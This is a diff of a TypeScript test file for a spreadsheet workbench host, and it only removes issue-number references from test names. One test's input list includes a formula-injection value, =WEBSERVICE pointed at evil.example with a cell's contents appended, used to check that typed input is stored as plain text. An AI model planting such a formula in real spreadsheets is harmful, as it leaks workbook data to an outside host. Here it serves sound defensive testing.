@@ -25,7 +25,7 @@ function hostOn(book: { doc: WorkbenchDocument; changes: boolean[] }) {
 }
 
 describe("workbenchHost", () => {
-  it("issue 14 item 7: writes what the user typed as text, never a formula, number, boolean or date", async () => {
+  it("writes what the user typed as text, never a formula, number, boolean or date", async () => {
     const book = open({ Growth: [["Stage 阶段", "growth"]], Notes: [] }, "Growth");
     const host = hostOn(book);
     const typed = ["=1+1", '=WEBSERVICE("http://evil.example/?"&Growth!B1)', "10%", "TRUE", "#N/A", "2026-01-01", "'quoted", "+86 138", "  0012"];
@@ -69,7 +69,7 @@ describe("workbenchHost", () => {
     );
   });
 
-  it("issue 14 items 8–9: never replaces a sheet whose name differs only in case; rewrites its own by id", async () => {
+  it("never replaces a sheet whose name differs only in case; rewrites its own by id", async () => {
     const book = open({ assumptions: [["my own", 1]], Minefields: [["mine"]], "scenario 1": [["mine too"]] }, "Minefields");
     const host = hostOn(book);
     await expect(host.addSheet(assumptionsSheet())).rejects.toMatchObject({ code: "SHEET_EXISTS", detail: "Assumptions" });
@@ -86,7 +86,7 @@ describe("workbenchHost", () => {
     expect((await host.readRanges(["Checked!A1"]))[0][0][0]).toBe("second");
   });
 
-  it("issue 14 item 11: sheets keep their id through a rename", async () => {
+  it("sheets keep their id through a rename", async () => {
     const book = open({ Growth: [[1]], Plan: [[2]] }, "Plan");
     const host = hostOn(book);
     const before = await host.activeSheet();
@@ -107,7 +107,7 @@ describe("workbenchHost", () => {
     expect(key[0]).toBe("ref_spend");
   });
 
-  it("issue 14 item 15: answers belong to the opened workbook, never to its file name", async () => {
+  it("answers belong to the opened workbook, never to its file name", async () => {
     const first = open({ Growth: [] }, "Growth");
     const second = open({ Growth: [] }, "Growth");
     await hostOn(first).saveSettings({ version: 2, sheets: [{ name: "Growth", answers: { 1: { status: "clear", note: "first file" } } }] });
